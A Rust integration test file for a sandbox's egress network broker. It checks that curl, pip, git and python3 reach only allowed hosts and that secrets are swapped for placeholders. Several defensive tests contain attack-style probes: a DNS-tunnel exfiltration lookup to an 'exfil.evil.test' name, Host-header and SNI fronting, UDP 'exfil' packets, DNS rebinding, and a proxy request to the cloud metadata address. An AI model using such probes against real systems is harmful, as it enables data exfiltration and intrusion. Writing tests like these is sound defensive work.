//! Network under policy in the container backend: a small internet on this machine
//! (tests/src/net.rs) and real programs (curl, pip, git, python3) reaching it through
//! the egress broker, or failing to, with the rule named in the outcome.

use std::collections::HashMap;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;

use hsb_tests::net::{self, DnsSpy, TestCa, TestNetns, WebServer};
use hsb_tests::{run_in, stdout, writable_tempdir, Mount, Outcome, Policy, Sandbox, Workload};
use hybrid_sandbox::network::{ConnectionRecord, NetworkVerdict};

fn ip(last: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, last))
}

fn sandbox(profile: &str) -> Sandbox {
    let text = net::policy_with(profile);
    Sandbox::from_policy(Policy::from_toml_str(&text, "egress test policy").expect("policy"))
}

fn sh(script: &str) -> Workload {
    Workload::new("/bin/sh", ["-c", script])
        .profile("net")
        .env("HOME", "/tmp")
}

fn network(o: &Outcome) -> &hybrid_sandbox::network::NetworkReport {
    o.network
        .as_ref()
        .expect("an egress run reports its network")
}

fn conns<'a>(o: &'a Outcome, name: &str) -> Vec<&'a ConnectionRecord> {
    network(o)
        .connections
        .iter()
        .filter(|c| c.name.as_deref() == Some(name))
        .collect()
}

fn show(o: &Outcome) -> String {
    format!(
        "stdout: {}\nstderr: {}\nnetwork: {}",
        stdout(o),
        String::from_utf8_lossy(&o.stderr),
        serde_json::to_string_pretty(&o.network).unwrap_or_default()
    )
}

#[test]
fn allowed_names_answer_denied_names_fail_with_the_rule() {
    let dir = writable_tempdir();
    std::fs::write(dir.path().join("index.html"), "hello from web.test\n").unwrap();
    let web = WebServer::start(ip(21), dir.path(), None, None);
    let bad = WebServer::start(ip(22), dir.path(), None, None);
    let other = WebServer::start(ip(23), dir.path(), None, None);
    let (wp, bp, op) = (web.addr.port(), bad.addr.port(), other.addr.port());
    let sb = sandbox(&format!(
        r#"[profiles.net.network]
mode = "egress"
allow = ["*.test"]
deny = ["bad.test"]
hosts = {{ "web.test" = "{}", "bad.test" = "{}", "other.example" = "{}" }}
"#,
        web.addr.ip(),
        bad.addr.ip(),
        other.addr.ip()
    ));
    let o = run_in(
        &sb,
        sh(&format!(
            "curl -sS --noproxy '*' http://web.test:{wp}/index.html; \
             curl -sS http://web.test:{wp}/index.html; \
             curl -sS --noproxy '*' -m 5 http://bad.test:{bp}/ && echo BAD-REACHED; \
             curl -fsS -m 5 http://bad.test:{bp}/ && echo BAD-REACHED-PROXY; \
             curl -sS --noproxy '*' -m 5 http://other.example:{op}/ && echo OTHER-REACHED; \
             curl -fsS -m 5 http://other.example:{op}/ && echo OTHER-REACHED-PROXY; \
             exit 0"
        )),
    );
    let out = stdout(&o);
    assert_eq!(
        out.matches("hello from web.test").count(),
        2,
        "{}",
        show(&o)
    );
    assert!(!out.contains("REACHED"), "{}", show(&o));
    // The allowed connections: one through the sandbox's interface, one through the proxy.
    let web_conns = conns(&o, "web.test");
    assert!(
        web_conns.iter().any(|c| c.via == "tun" && c.bytes_in > 0),
        "{}",
        show(&o)
    );
    assert!(web_conns.iter().any(|c| c.via == "proxy"), "{}", show(&o));
    assert!(web_conns
        .iter()
        .all(|c| c.verdict == NetworkVerdict::Allowed
            && c.rule.contains("`*.test` (profiles.net.network.allow[0])")));
    // bad.test: denied by the deny rule, in DNS and at the proxy.
    let n = network(&o);
    let dns_bad = n
        .dns
        .iter()
        .find(|d| d.name == "bad.test")
        .expect("bad.test asked");
    assert_eq!(dns_bad.verdict, NetworkVerdict::Denied);
    assert!(
        dns_bad
            .rule
            .contains("`bad.test` (profiles.net.network.deny[0])"),
        "{}",
        show(&o)
    );
    assert!(conns(&o, "bad.test")
        .iter()
        .any(|c| c.verdict == NetworkVerdict::Denied && c.rule.contains("deny[0]")));
    // other.example: no rule allows it.
    let dns_other = n
        .dns
        .iter()
        .find(|d| d.name == "other.example")
        .expect("asked");
    assert_eq!(dns_other.verdict, NetworkVerdict::Denied);
    assert_eq!(dns_other.rule, "no allow rule matches");
    // Nothing reached the denied servers.
    assert!(bad.log().is_empty() && other.log().is_empty());
    assert!(web.log().contains("GET /index.html"));
}

#[test]
fn tls_sni_and_http_host_must_name_the_host_connected_to() {
    let dir = writable_tempdir();
    std::fs::write(dir.path().join("index.html"), "secure hello\n").unwrap();
    let ca = TestCa::new(dir.path());
    let (cert, key) = ca.leaf(&["secure.test", "other.test"]);
    let tls = WebServer::start(ip(24), dir.path(), Some((&cert, &key)), None);
    let port = tls.addr.port();
    let sb = sandbox(&format!(
        r#"[profiles.net.network]
mode = "egress"
allow = ["secure.test"]
hosts = {{ "secure.test" = "{}" }}
"#,
        tls.addr.ip()
    ));
    let o = run_in(
        &sb,
        sh(&format!(
            "curl -sS --noproxy '*' --cacert /ca/test-ca.pem https://secure.test:{port}/index.html; \
             curl -sS --cacert /ca/test-ca.pem https://secure.test:{port}/index.html; \
             ip=$(getent hosts secure.test | cut -d' ' -f1); \
             curl -sS --noproxy '*' -m 5 --cacert /ca/test-ca.pem --resolve other.test:{port}:$ip \
                https://other.test:{port}/ && echo FRONTED; \
             curl -sS --noproxy '*' -m 5 -k -H 'Host: other.test' https://secure.test:{port}/ && echo HOST-OK-IN-TLS; \
             exit 0"
        ))
        .mount(Mount::ro(dir.path(), "/ca")),
    );
    let out = stdout(&o);
    // Directly, through the proxy, and with another Host inside TLS (which the broker
    // does not see: it does not intercept this host, and the server is the right one).
    assert_eq!(out.matches("secure hello").count(), 3, "{}", show(&o));
    assert!(!out.contains("FRONTED"), "{}", show(&o));
    let refused = conns(&o, "secure.test")
        .into_iter()
        .find(|c| c.verdict == NetworkVerdict::Denied)
        .unwrap_or_else(|| panic!("the SNI mismatch is refused: {}", show(&o)));
    assert!(
        refused
            .note
            .as_deref()
            .unwrap_or("")
            .contains("TLS SNI names `other.test`"),
        "{}",
        show(&o)
    );
}

#[test]
fn plain_http_host_header_must_match() {
    let dir = writable_tempdir();
    let web = WebServer::start(ip(25), dir.path(), None, None);
    let port = web.addr.port();
    let sb = sandbox(&format!(
        "[profiles.net.network]\nmode = \"egress\"\nallow = [\"web.test\"]\nhosts = {{ \"web.test\" = \"{}\" }}\n",
        web.addr.ip()
    ));
    let o = run_in(
        &sb,
        sh(&format!(
            "curl -sS --noproxy '*' -m 5 -H 'Host: evil.test' http://web.test:{port}/echo && echo FRONTED; exit 0"
        )),
    );
    assert!(!stdout(&o).contains("FRONTED"), "{}", show(&o));
    assert!(web.log().is_empty(), "{}", web.log());
    let c = conns(&o, "web.test");
    assert!(
        c.iter().any(|c| c.verdict == NetworkVerdict::Denied
            && c.note
                .as_deref()
                .unwrap_or("")
                .contains("HTTP Host names `evil.test`")),
        "{}",
        show(&o)
    );
}

#[test]
fn pip_installs_a_wheel_from_an_allowed_index() {
    let dir = writable_tempdir();
    let wheel = net::package_index(dir.path(), "hsbdemo", "1.2.3");
    let index = WebServer::start(ip(26), dir.path(), None, None);
    let port = index.addr.port();
    let sb = sandbox(&format!(
        "[profiles.net.network]\nmode = \"egress\"\nallow = [\"pypi.test\"]\nhosts = {{ \"pypi.test\" = \"{}\" }}\n",
        index.addr.ip()
    ));
    let o = run_in(
        &sb,
        sh(&format!(
            "python3 -m pip install --no-cache-dir --disable-pip-version-check --break-system-packages \
               --trusted-host pypi.test --index-url http://pypi.test:{port}/simple/ \
               --target /tmp/site hsbdemo 2>&1 && \
             PYTHONPATH=/tmp/site python3 -c 'import hsbdemo; print(hsbdemo.VALUE)'"
        )),
    );
    assert!(o.success(), "{}", show(&o));
    assert!(stdout(&o).contains("hsbdemo 1.2.3"), "{}", show(&o));
    assert!(
        index.log().contains(&format!("GET /files/{wheel}")),
        "{}",
        index.log()
    );
    // Through an index the policy does not allow, nothing is installed.
    let sb = sandbox(&format!(
        "[profiles.net.network]\nmode = \"egress\"\nallow = [\"other.test\"]\nhosts = {{ \"pypi.test\" = \"{}\" }}\n",
        index.addr.ip()
    ));
    let before = index.log();
    let o = run_in(
        &sb,
        sh(&format!(
            "python3 -m pip install --no-cache-dir --disable-pip-version-check --break-system-packages \
               --retries 0 --timeout 5 --trusted-host pypi.test \
               --index-url http://pypi.test:{port}/simple/ --target /tmp/site hsbdemo"
        )),
    );
    assert!(!o.success(), "{}", show(&o));
    assert_eq!(index.log(), before);
    assert!(conns(&o, "pypi.test")
        .iter()
        .all(|c| c.verdict == NetworkVerdict::Denied && c.rule == "no allow rule matches"));
}

#[test]
fn git_clones_an_allowed_repository_only() {
    let dir = writable_tempdir();
    net::git_repo(dir.path(), "demo", "the demo repository\n");
    let server = WebServer::start(ip(27), dir.path(), None, None);
    let port = server.addr.port();
    let sb = sandbox(&format!(
        "[profiles.net.network]\nmode = \"egress\"\nallow = [\"git.test\"]\ndeny = [\"nogit.test\"]\n\
         hosts = {{ \"git.test\" = \"{a}\", \"nogit.test\" = \"{a}\" }}\n",
        a = server.addr.ip()
    ));
    let o = run_in(
        &sb,
        sh(&format!(
            "git clone -q http://git.test:{port}/demo.git /tmp/demo && cat /tmp/demo/README; \
             git clone -q http://nogit.test:{port}/demo.git /tmp/no 2>&1 || echo CLONE-REFUSED"
        )),
    );
    let out = stdout(&o);
    assert!(out.contains("the demo repository"), "{}", show(&o));
    assert!(out.contains("CLONE-REFUSED"), "{}", show(&o));
    assert!(
        conns(&o, "nogit.test")
            .iter()
            .any(|c| c.verdict == NetworkVerdict::Denied
                && c.rule
                    .contains("`nogit.test` (profiles.net.network.deny[0])")),
        "{}",
        show(&o)
    );
}

const SECRET: &str = "s3cr3t-value-7f9a";

#[test]
fn a_secret_reaches_only_its_host() {
    let hosts = net::SecretHosts::start("HSB_EGRESS_TEST_SECRET", SECRET, ip(28), ip(29));
    let (api, other) = (&hosts.api, &hosts.other);
    let (ap, op) = (api.addr.port(), other.addr.port());
    let sb = sandbox(&hosts.profile);
    let o = run_in(
        &sb,
        sh(&format!(
            "echo \"sandbox sees: $TOKEN\"; \
             curl -sS --noproxy '*' -H \"Authorization: Bearer $TOKEN\" https://api.test:{ap}/echo; \
             curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.test:{ap}/echo?via=proxy; \
             curl -sS --noproxy '*' -u \"user:$TOKEN\" https://api.test:{ap}/echo?basic=1; \
             curl -sS --noproxy '*' -H \"X-Token: $TOKEN\" http://other.test:{op}/echo; \
             env | grep -c {SECRET} || true"
        )),
    );
    let placeholder = net::placeholder_seen(&o).expect("the variable");
    assert!(placeholder.starts_with("hsb-placeholder-"), "{}", show(&o));
    // The real server got the value, three times (bearer, bearer via the proxy, basic).
    let log = api.log();
    assert_eq!(log.matches(&format!("Bearer {SECRET}")).count(), 2, "{log}");
    assert!(log.contains("Authorization: Basic"), "{log}");
    assert!(
        !log.contains("authorization:"),
        "header case is kept: {log}"
    );
    assert!(!log.contains(&placeholder), "{log}");
    // The other host saw the placeholder only.
    let olog = other.log();
    assert!(
        olog.contains(&placeholder) && !olog.contains(SECRET),
        "{olog}"
    );
    // The value never appears in the sandbox (echoed responses are scrubbed back),
    // its output, or the outcome.
    let json = serde_json::to_string(&o).unwrap();
    assert!(!json.contains(SECRET), "{json}");
    assert!(
        stdout(&o).contains(&format!("Bearer {placeholder}")),
        "{}",
        show(&o)
    );
    let api_conns = conns(&o, "api.test");
    assert!(api_conns.iter().all(|c| c.intercepted), "{}", show(&o));
    assert!(
        api_conns.iter().filter(|c| c.secrets == ["TOKEN"]).count() >= 3,
        "{}",
        show(&o)
    );
    assert!(conns(&o, "other.test")
        .iter()
        .all(|c| !c.intercepted && c.secrets.is_empty()));
}

#[test]
fn an_exposed_port_answers_from_the_host() {
    let rt = hsb_tests::runtime();
    let sb = sandbox("[profiles.net.network]\nmode = \"egress\"\nexpose = [8000]\n");
    rt.block_on(async {
        let w = sh(
            "mkdir -p /tmp/www && echo served-from-the-sandbox > /tmp/www/index.html && \
                    cd /tmp/www && exec python3 -m http.server 8000 --bind 0.0.0.0",
        );
        let mut exec = sb.spawn(w).await.expect("spawn");
        let ports = exec.exposed_ports();
        assert_eq!(ports.len(), 1);
        assert_eq!(ports[0].sandbox_port, 8000);
        let host = ports[0].host;
        assert!(host.ip().is_loopback());
        let mut body = String::new();
        for _ in 0..100 {
            let got = tokio::task::spawn_blocking(move || {
                use std::io::{Read, Write};
                let mut s = std::net::TcpStream::connect(host).ok()?;
                s.set_read_timeout(Some(std::time::Duration::from_secs(5)))
                    .ok()?;
                s.write_all(b"GET /index.html HTTP/1.0\r\n\r\n").ok()?;
                let mut out = String::new();
                s.read_to_string(&mut out).ok()?;
                Some(out)
            })
            .await
            .unwrap();
            if let Some(b) = got.filter(|b| b.contains("served-from")) {
                body = b;
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert!(body.contains("served-from-the-sandbox"), "{body}");
        exec.kill_handle().kill();
        let o = exec.wait().await.expect("outcome");
        let n = network(&o);
        assert_eq!(n.exposed.len(), 1);
        assert!(n
            .connections
            .iter()
            .any(|c| c.via == "exposed" && c.port == 8000 && c.bytes_out > 0));
    });
}

#[test]
fn dns_never_carries_denied_names_out() {
    let dir = writable_tempdir();
    std::fs::write(dir.path().join("index.html"), "real\n").unwrap();
    let real = WebServer::start(ip(30), dir.path(), None, None);
    let spy = DnsSpy::start(
        Ipv4Addr::new(127, 0, 0, 31),
        HashMap::from([
            ("real.test".to_string(), Ipv4Addr::new(127, 0, 0, 30)),
            ("rebind.test".to_string(), Ipv4Addr::new(127, 0, 0, 1)),
        ]),
    );
    let port = real.addr.port();
    let sb = sandbox(&format!(
        "[profiles.net.network]\nmode = \"egress\"\nallow = [\"real.test\", \"rebind.test\", \"127.0.0.30\"]\ndns = \"{}\"\n",
        spy.addr
    ));
    let o = run_in(
        &sb,
        sh(&format!(
            "for i in 1 2 3; do getent hosts c2VjcmV0LWRhdGEtJGk.exfil.evil.test; done; \
             getent hosts data.real.test; getent hosts real.test >/dev/null; \
             curl -sS --noproxy '*' -m 5 http://real.test:{port}/index.html; \
             curl -sS --noproxy '*' -m 5 http://rebind.test:{port}/ && echo REBOUND; exit 0"
        )),
    );
    assert!(stdout(&o).contains("real"), "{}", show(&o));
    assert!(!stdout(&o).contains("REBOUND"), "{}", show(&o));
    let asked = spy.asked();
    // Only the allowed names the sandbox connected to were ever looked up, on the host.
    assert!(
        asked.iter().all(|n| n == "real.test" || n == "rebind.test"),
        "{asked:?}"
    );
    assert!(asked.iter().any(|n| n == "real.test"), "{asked:?}");
    let n = network(&o);
    let tunnel = n
        .dns
        .iter()
        .find(|d| d.name.ends_with("evil.test"))
        .expect("asked");
    assert_eq!(tunnel.verdict, NetworkVerdict::Denied);
    // A name that resolves to the host's loopback is refused (DNS rebinding).
    assert!(
        conns(&o, "rebind.test").iter().any(|c| c
            .note
            .as_deref()
            .unwrap_or("")
            .contains("resolves only to local or private addresses")),
        "{}",
        show(&o)
    );
}

#[test]
fn escapes_fail_udp_ipv6_raw_sockets_and_the_hosts_loopback() {
    let dir = writable_tempdir();
    std::fs::write(dir.path().join("index.html"), "host loopback service\n").unwrap();
    // A service on the host's own loopback.
    let local = WebServer::start(ip(1), dir.path(), None, None);
    let port = local.addr.port();
    let sb = sandbox("[profiles.net.network]\nmode = \"egress\"\nallow = [\"*.test\"]\n");
    let script = format!(
        r#"
python3 - <<'PY'
import socket, errno
def attempt(name, f):
    try:
        f(); print(name, "SUCCEEDED")
    except OSError as e:
        print(name, "failed", errno.errorcode.get(e.errno, e.errno))
def tcp(addr):
    s = socket.create_connection(addr, timeout=5); s.close()
attempt("loopback", lambda: tcp(("127.0.0.1", {port})))
attempt("broker", lambda: tcp(("100.96.0.1", {port})))
attempt("pool-unasked", lambda: tcp(("198.18.3.3", 80)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt("ipv6", lambda: tcp(("2001:db8::7", 80)))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for p in (53, 9999, 123):
    u.sendto(b"exfil", ("100.96.0.1", p)); u.sendto(b"exfil", ("198.18.0.9", p))
print("udp sent")
PY
"#
    );
    let o = run_in(&sb, sh(&script));
    let out = stdout(&o);
    for probe in ["loopback", "broker", "pool-unasked", "raw", "ping", "ipv6"] {
        assert!(
            out.lines()
                .any(|l| l.starts_with(&format!("{probe} failed"))),
            "{probe}: {}",
            show(&o)
        );
    }
    assert!(out.contains("udp sent"), "{}", show(&o));
    assert!(local.log().is_empty(), "{}", local.log());
    let n = network(&o);
    assert!(
        n.dropped_packets.get("udp").copied().unwrap_or(0) >= 5,
        "{}",
        show(&o)
    );
    assert!(n
        .connections
        .iter()
        .any(|c| c.ip == Ipv4Addr::new(198, 18, 3, 3) && c.verdict == NetworkVerdict::Denied));
    // Through the proxy, where the broker itself would connect: even a rule allowing
    // every address does not reach the host's loopback (only a rule naming it would).
    let sb = sandbox("[profiles.net.network]\nmode = \"egress\"\nallow = [\"0.0.0.0/0\"]\n");
    let o = run_in(
        &sb,
        sh(&format!(
            "curl -fsS -m 5 --proxy http://100.96.0.1:3128 --noproxy '' http://127.0.0.1:{port}/index.html \
               && echo REACHED; \
             curl -fsS -m 5 --proxy http://100.96.0.1:3128 --noproxy '' http://169.254.169.254/ && echo METADATA; exit 0"
        )),
    );
    assert!(
        !stdout(&o).contains("REACHED") && !stdout(&o).contains("METADATA"),
        "{}",
        show(&o)
    );
    assert!(local.log().is_empty(), "{}", local.log());
    let denied = network(&o)
        .connections
        .iter()
        .filter(|c| c.via == "proxy" && c.verdict == NetworkVerdict::Denied)
        .count();
    assert_eq!(denied, 2, "{}", show(&o));
}

#[test]
fn direct_addresses_need_a_rule_naming_them() {
    let Some(ns) = TestNetns::create(1) else {
        eprintln!("SKIPPED: not root: the remote host's namespace cannot be made");
        return;
    };
    let dir = writable_tempdir();
    std::fs::write(dir.path().join("index.html"), "remote host\n").unwrap();
    let remote = WebServer::start(IpAddr::V4(ns.ns_ip), dir.path(), None, Some(&ns.name));
    let port = remote.addr.port();
    let script = format!(
        "curl -sS --noproxy '*' -m 5 http://{a}:{port}/index.html; \
         curl -sS -m 5 http://{a}:{port}/index.html; exit 0",
        a = ns.ns_ip
    );
    // No rule names the address: refused, both ways.
    let sb = sandbox("[profiles.net.network]\nmode = \"egress\"\nallow = [\"*.test\"]\n");
    let o = run_in(&sb, sh(&script));
    assert!(!stdout(&o).contains("remote host"), "{}", show(&o));
    assert!(remote.log().is_empty(), "{}", remote.log());
    let refused: Vec<_> = network(&o)
        .connections
        .iter()
        .filter(|c| c.ip == ns.ns_ip || c.name.as_deref() == Some(&ns.ns_ip.to_string()))
        .collect();
    assert!(
        refused.len() >= 2 && refused.iter().all(|c| c.verdict == NetworkVerdict::Denied),
        "{}",
        show(&o)
    );
    // The same with a rule naming it: reached (so the refusal above is the rule's doing).
    let sb = sandbox(&format!(
        "[profiles.net.network]\nmode = \"egress\"\nallow = [\"{}:{port}\"]\n",
        ns.ns_ip
    ));
    let o = run_in(&sb, sh(&script));
    assert_eq!(stdout(&o).matches("remote host").count(), 2, "{}", show(&o));
    drop(remote);
    let _ = Path::new(&ns.name);
}
